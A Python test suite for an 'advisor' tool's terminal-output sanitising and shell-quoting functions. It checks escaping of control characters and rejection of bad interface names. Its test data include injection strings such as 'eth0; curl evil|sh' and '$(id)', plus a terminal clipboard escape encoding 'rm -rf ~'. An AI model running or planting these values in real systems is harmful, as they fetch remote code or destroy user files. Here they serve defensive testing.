"""Text from outside: what is shown of it, and the lines for a shell that contain it."""

import os
import re
import subprocess
import unicodedata

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from advisor.domain import printable as p
from advisor.domain.advice import Command
from advisor.domain.endpoints import Pair
from advisor.domain.problem import Problem, ProblemKind
from advisor.domain.shell import quoted_line, shell_line, shell_word

ANY_TEXT = st.text(st.characters(exclude_categories=()))
DANGEROUS = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})
ESCAPES = "\x1b]52;c;cm0gLXJmIH4=\x07"


@given(ANY_TEXT)
def test_printable_text_has_nothing_that_a_terminal_obeys(text: str) -> None:
    shown = p.printable(text)
    assert shown.isprintable()
    assert p.printable(shown) == shown
    shown.encode()


@given(ANY_TEXT)
def test_lines_keep_newlines_and_tabs_only(text: str) -> None:
    shown = p.printable_lines(text)
    assert not [c for c in shown if unicodedata.category(c) in DANGEROUS and c not in "\n\t"]
    assert shown.count("\n") == text.count("\n")


@given(st.text(st.characters(categories=("L", "N", "P", "S"))))
def test_readable_text_stays_as_it_is(text: str) -> None:
    assert p.printable(text) == p.printable_lines(text) == text


@given(st.binary())
def test_the_bytes_of_a_name_that_is_not_utf8_are_shown(name: bytes) -> None:
    text = name.decode("utf-8", "surrogateescape")
    assert p.printable(text).isprintable()


@given(ANY_TEXT, st.integers(1, 50))
def test_shortened_text_is_printable_and_short(text: str, most: int) -> None:
    shown = p.shortened(text, most)
    assert len(shown) <= most
    assert shown.isprintable()


def test_the_pattern_of_shown_text_refuses_every_character_that_is_not_seen() -> None:
    hidden = {c for c in map(chr, range(0x110000)) if unicodedata.category(c) in DANGEROUS}
    assert not [c for c in hidden if re.search(p.SHOWN, c)]


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("a\x1b[31mb", r"a\x1b[31mb"),
        ("a\nb", r"a\nb"),
        ("\u202etxt.exe", r"\u202etxt.exe"),
        ("\udcff", r"\xff"),
        ("\ud800", r"\ud800"),
        ("Größe ±", "Größe ±"),
    ],
)
def test_escapes(name: str, shown: str) -> None:
    assert p.printable(name) == shown


@pytest.mark.parametrize(
    "name", ["eth0", "bond0.100", "enp65s0f0np0", "wg0", "br-lan", "veth1@if2"]
)
def test_interfaces_in_use(name: str) -> None:
    assert p.fitting(name, p.InterfaceName) == name


@pytest.mark.parametrize(
    "name", ["", "eth0; curl evil|sh", "-o", "eth0\n", "$(id)", "a b", "x" * 16, "\u202eeth0", "*"]
)
def test_what_is_no_interface(name: str) -> None:
    assert p.fitting(name, p.InterfaceName) is None


@pytest.mark.parametrize("release", ["6.1.0-18-amd64", "4.18.0-553.el8_10.x86_64", "6.9.0+", ""])
def test_kernels_in_use(release: str) -> None:
    assert p.fitting(release, p.SystemName) == release


# What an argument of a program can be: any bytes but NUL.
ARGUMENTS = st.lists(
    st.binary(max_size=20).map(lambda b: os.fsdecode(b.replace(b"\0", b""))), min_size=1, max_size=4
)


@given(ARGUMENTS)
def test_a_line_is_printable(argv: list[str]) -> None:
    assert p.is_printable(shell_line(argv))


def test_a_shell_reads_back_the_arguments() -> None:
    argv = [
        "plain",
        "a b",
        "",
        "it's",
        "$(touch /tmp/x)",
        "`id`",
        ";",
        f"a{ESCAPES}'\\7",
        "x\n1",
        "\u202e7",
        "\udcff",
        "ü",
    ]
    line = f"printf '%s\\0' {shell_line(argv)}"
    done = subprocess.run(["bash", "-c", line], capture_output=True, check=True)
    assert [os.fsdecode(one) for one in done.stdout.split(b"\0")[:-1]] == argv


def test_any_posix_shell_reads_back_a_line_for_programs() -> None:
    argv = ["plain", "a b", "", "it's", "$(id)", "a\tb", "a\u200db", "a\xadb", "\ue000", "\udcff"]
    argv.append(ESCAPES)
    line = f"printf '%s\\0' {quoted_line(argv)}"
    done = subprocess.run(["sh", "-c", line], capture_output=True, check=True)
    assert [os.fsdecode(one) for one in done.stdout.split(b"\0")[:-1]] == argv


def test_ordinary_words_are_quoted_as_everywhere() -> None:
    assert shell_word("a b") == "'a b'"
    assert shell_word("/data/run-42") == "/data/run-42"


def test_a_problem_is_printable_and_its_command_is_safe_to_copy() -> None:
    problem = Problem(
        kind=ProblemKind.FAILED,
        reason=f"no {ESCAPES}",
        remedy="\u202e",
        host="a\nb",
        command="a\x1b",
    )
    assert str(problem).isprintable()
    assert problem.host == r"a\nb"
    assert problem.command == ""


def test_a_command_line_of_any_plugin_is_printable() -> None:
    command = Command(tool="cp", side="source", argv=["cp", "a\x1b"], shell="cp 'a\x1b'")
    assert command.shell == r"cp $'a\033'"
    stored = msgspec.json.decode(
        rb'{"tool": "cp", "side": "source", "argv": ["cp"], "shell": "cp \u001b"}', type=Command
    )
    assert stored.shell == "cp"


def test_a_pair_is_printable() -> None:
    with pytest.raises(ValueError, match="not a pair"):
        Pair.parse(f"a->b{ESCAPES}")
    with pytest.raises(msgspec.ValidationError):
        msgspec.json.decode(rb'{"source": "a\u001b", "destination": "b"}', type=Pair)
